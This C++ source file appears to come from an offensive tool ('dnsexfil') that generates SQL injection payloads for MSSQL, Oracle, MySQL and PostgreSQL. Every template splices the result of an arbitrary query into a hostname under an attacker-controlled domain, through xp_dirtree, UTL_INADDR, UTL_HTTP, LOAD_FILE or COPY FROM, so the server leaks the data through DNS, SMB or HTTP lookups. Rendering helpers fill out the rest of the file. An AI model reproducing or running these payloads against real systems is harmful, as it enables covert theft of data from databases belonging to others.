#include "dnsexfil/payload_gen.hpp"

#include <array>

namespace dnsexfil::payload {

namespace {

// The MsSQL precalculation form exists because the extended stored
// procedures do not accept subqueries as parameter values: the inner query
// result lands in @host first and the procedure gets the assembled UNC
// string through dynamic SQL.
constexpr std::string_view mssql_query_template =
    "DECLARE @host varchar(1024);\n"
    "SELECT @host=({QUERY})+'.'+'{HOST}';\n"
    "EXEC('master..{PROC} ''\\\\'+@host+'\\foobar$''');";

constexpr std::string_view mssql_host_expr = "({QUERY})+'.'+'{HOST}'";

std::string mssql_template(std::string_view proc) {
    std::string t(mssql_query_template);
    auto pos = t.find("{PROC}");
    t.replace(pos, 6, proc);
    return t;
}

std::size_t count_occurrences(std::string_view text, std::string_view needle) {
    std::size_t n = 0;
    for (std::size_t pos = text.find(needle); pos != std::string_view::npos;
         pos = text.find(needle, pos + needle.size())) {
        ++n;
    }
    return n;
}

std::string replace_once(std::string text, std::string_view needle, std::string_view value) {
    auto pos = text.find(needle);
    if (pos != std::string::npos) text.replace(pos, needle.size(), value);
    return text;
}

void check_quote_safety(std::string_view sql) {
    bool in_string = false;
    for (std::size_t i = 0; i < sql.size(); ++i) {
        if (sql[i] != '\'') continue;
        if (in_string && i + 1 < sql.size() && sql[i + 1] == '\'') {
            ++i; // escaped quote inside a literal
            continue;
        }
        in_string = !in_string;
    }
    if (in_string) throw QuoteUnsafe("inner query has an unterminated string literal");
}

const std::vector<Subroutine>& catalog() {
    static const std::vector<Subroutine> subs = [] {
        std::vector<Subroutine> v;

        for (std::string_view proc : {"xp_dirtree", "xp_fileexist", "xp_subdirs"}) {
            Subroutine s;
            s.dbms = DbmsKind::mssql;
            s.name = std::string(proc);
            s.query_template = mssql_template(proc);
            s.literal_template = "EXEC master..-PROC- '{HOST}';";
            s.literal_template = replace_once(s.literal_template, "-PROC-", proc);
            s.windows_only = true;
            s.uses_unc = true;
            v.push_back(std::move(s));
        }

        {
            Subroutine s;
            s.dbms = DbmsKind::oracle;
            s.name = "UTL_INADDR.GET_HOST_ADDRESS";
            s.query_template =
                "SELECT UTL_INADDR.GET_HOST_ADDRESS(({QUERY})||'.'||'{HOST}') FROM DUAL;";
            s.literal_template = "SELECT UTL_INADDR.GET_HOST_ADDRESS('{HOST}');";
            s.windows_only = false;
            s.uses_unc = false;
            v.push_back(std::move(s));
        }
        {
            Subroutine s;
            s.dbms = DbmsKind::oracle;
            s.name = "UTL_HTTP.REQUEST";
            s.query_template =
                "SELECT UTL_HTTP.REQUEST('http://'||({QUERY})||'.'||'{HOST}'||'/') FROM DUAL;";
            s.literal_template = "SELECT UTL_HTTP.REQUEST('{HOST}') FROM DUAL;";
            s.windows_only = false;
            s.uses_unc = false;
            v.push_back(std::move(s));
        }
        {
            Subroutine s;
            s.dbms = DbmsKind::oracle;
            s.name = "HTTPURITYPE.GETCLOB";
            s.query_template =
                "SELECT HTTPURITYPE('http://'||({QUERY})||'.'||'{HOST}'||'/').GETCLOB() FROM DUAL;";
            s.literal_template = "SELECT HTTPURITYPE('{HOST}').GETCLOB() FROM DUAL;";
            s.windows_only = false;
            s.uses_unc = false;
            v.push_back(std::move(s));
        }

        {
            Subroutine s;
            s.dbms = DbmsKind::mysql;
            s.name = "LOAD_FILE";
            s.query_template =
                "SELECT LOAD_FILE(CONCAT('\\\\',({QUERY}),'.','{HOST}','\\foobar$'));";
            s.literal_template = "SELECT LOAD_FILE('{HOST}');";
            s.windows_only = true;
            s.reconstructed = true;
            s.uses_unc = true;
            v.push_back(std::move(s));
        }
        {
            Subroutine s;
            s.dbms = DbmsKind::postgresql;
            s.name = "COPY FROM";
            s.query_template =
                "COPY exfil FROM ('\\\\'||({QUERY})||'.'||'{HOST}'||'\\foobar$');";
            s.literal_template = "COPY exfil FROM '{HOST}';";
            s.windows_only = true;
            s.reconstructed = true;
            s.uses_unc = true;
            v.push_back(std::move(s));
        }
        return v;
    }();
    return subs;
}

std::string host_expr_for(const Subroutine& sub) {
    switch (sub.dbms) {
    case DbmsKind::mssql:
        return std::string(mssql_host_expr);
    case DbmsKind::oracle:
        if (sub.name == "UTL_INADDR.GET_HOST_ADDRESS") return "({QUERY})||'.'||'{HOST}'";
        return "'http://'||({QUERY})||'.'||'{HOST}'||'/'";
    case DbmsKind::mysql:
        return "CONCAT('\\\\',({QUERY}),'.','{HOST}','\\foobar$')";
    case DbmsKind::postgresql:
        return "'\\\\'||({QUERY})||'.'||'{HOST}'||'\\foobar$'";
    }
    return {};
}

} // namespace

std::string_view to_string(DbmsKind kind) {
    switch (kind) {
    case DbmsKind::mssql: return "mssql";
    case DbmsKind::oracle: return "oracle";
    case DbmsKind::mysql: return "mysql";
    case DbmsKind::postgresql: return "postgresql";
    }
    return "?";
}

DbmsKind dbms_from_string(std::string_view name) {
    std::string lower;
    for (char c : name) lower.push_back(c >= 'A' && c <= 'Z' ? char(c - 'A' + 'a') : c);
    if (lower == "mssql" || lower == "microsoft sql server") return DbmsKind::mssql;
    if (lower == "oracle") return DbmsKind::oracle;
    if (lower == "mysql") return DbmsKind::mysql;
    if (lower == "postgresql" || lower == "postgres") return DbmsKind::postgresql;
    throw PayloadError("unknown DBMS: " + std::string(name));
}

std::vector<Subroutine> list_subroutines(DbmsKind dbms) {
    std::vector<Subroutine> out;
    for (const auto& s : catalog()) {
        if (s.dbms == dbms) out.push_back(s);
    }
    return out;
}

const Subroutine& find_subroutine(DbmsKind dbms, std::string_view name) {
    for (const auto& s : catalog()) {
        if (s.dbms == dbms && s.name == name) return s;
    }
    throw PayloadError("no subroutine named '" + std::string(name) + "' for " +
                       std::string(to_string(dbms)));
}

PayloadVector render_vector(const Subroutine& sub, std::string_view inner_query,
                            const wire::DomainName& dns_domain) {
    if (count_occurrences(sub.query_template, "{HOST}") != 1 ||
        count_occurrences(sub.query_template, "{QUERY}") != 1) {
        throw PlaceholderMissing("query template must contain {HOST} and {QUERY} exactly once");
    }
    check_quote_safety(inner_query);

    std::string domain = dns_domain.to_string();
    PayloadVector out;
    out.sql = replace_once(replace_once(sub.query_template, "{QUERY}", inner_query),
                           "{HOST}", domain);
    out.subroutine = sub;
    out.host_expression = replace_once(replace_once(host_expr_for(sub), "{QUERY}", inner_query),
                                       "{HOST}", domain);
    return out;
}

PayloadVector render_literal(const Subroutine& sub, std::string_view argument) {
    if (count_occurrences(sub.literal_template, "{HOST}") != 1) {
        throw PlaceholderMissing("literal template must contain {HOST} exactly once");
    }
    check_quote_safety(argument);

    PayloadVector out;
    out.sql = replace_once(sub.literal_template, "{HOST}", argument);
    out.subroutine = sub;
    out.host_expression = std::string(argument);
    return out;
}

std::string unc_for(const wire::DomainName& fqdn) {
    return "\\\\" + fqdn.to_string() + "\\foobar$";
}

std::string url_for(const wire::DomainName& fqdn) {
    return "http://" + fqdn.to_string() + "/";
}

} // namespace dnsexfil::payload
